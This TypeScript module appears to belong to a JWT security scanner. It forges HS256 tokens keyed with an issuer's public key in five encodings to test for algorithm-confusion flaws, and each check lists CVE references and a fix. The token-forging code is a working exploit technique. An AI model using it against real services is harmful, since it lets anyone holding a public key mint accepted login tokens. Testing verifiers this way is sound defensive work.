import { exportSPKI } from 'jose';
import { signHs256, withoutKeyHints } from './token-parts';
import type { IssuerSigningKey } from '../../token/jwks-fetcher';
import type { Attack, AttackInput } from './types';

/** The forms a verifier might hand to HMAC as "the key", when it lets the token pick HS256. */
export type ConfusionForm = 'pem' | 'pem-no-newline' | 'pkcs1' | 'jwk-json' | 'der';

/** The issuer's public key as an HMAC secret in one form (jose for PEM, node:crypto for PKCS#1 and DER). */
export async function confusionSecret(issuerKey: IssuerSigningKey, form: ConfusionForm): Promise<string | Buffer> {
  const keyObject = issuerKey.key;
  switch (form) {
    case 'pem':
      return `${(await exportSPKI(issuerKey.key)).trimEnd()}\n`;
    case 'pem-no-newline':
      return (await exportSPKI(issuerKey.key)).trimEnd();
    case 'pkcs1':
      return keyObject.export({ type: 'pkcs1', format: 'pem' }) as string;
    case 'jwk-json':
      return JSON.stringify(issuerKey.jwk);
    case 'der':
      return keyObject.export({ type: 'spki', format: 'der' });
  }
}

const FORMS: readonly { form: ConfusionForm; words: string }[] = [
  { form: 'pem', words: 'PEM SPKI with a trailing newline' },
  { form: 'pem-no-newline', words: 'PEM SPKI without a trailing newline' },
  { form: 'pkcs1', words: 'PKCS#1 PEM' },
  { form: 'jwk-json', words: "the JWK's JSON text" },
  { form: 'der', words: 'DER bytes' },
];

function confused(form: ConfusionForm) {
  return async ({ token, issuerKey }: AttackInput): Promise<string> => {
    // needsIssuerKey: the planner never crafts this without one.
    if (!issuerKey) throw new TypeError('key confusion needs the issuer key');
    return signHs256(withoutKeyHints(token.header), token.claims, await confusionSecret(issuerKey, form));
  };
}

/** HS256 keyed with the issuer's own public key (for the JWKS key matching the token's kid), in five forms. */
export const KEY_CONFUSION_ATTACKS = FORMS.map(({ form, words }) => ({
  code: `key-confusion-${form}` as `key-confusion-${ConfusionForm}`,
  family: 'key-confusion' as const,
  title: `HS256 keyed with the issuer's public key as ${words}`,
  reference: 'CVE-2015-9235 (jsonwebtoken), CVE-2016-10555 (jwt-simple), CVE-2022-29217 (PyJWT); jwt_tool -X k; PortSwigger lab "algorithm confusion"',
  acceptance: "accepted HS256 made with the issuer's public key: anyone holding the public JWKS can mint tokens",
  fix: "pin the algorithm to RS256 on the server side; never let the token's alg choose how a key is used",
  needsIssuerKey: true as const,
  craft: confused(form),
})) satisfies readonly Attack[];
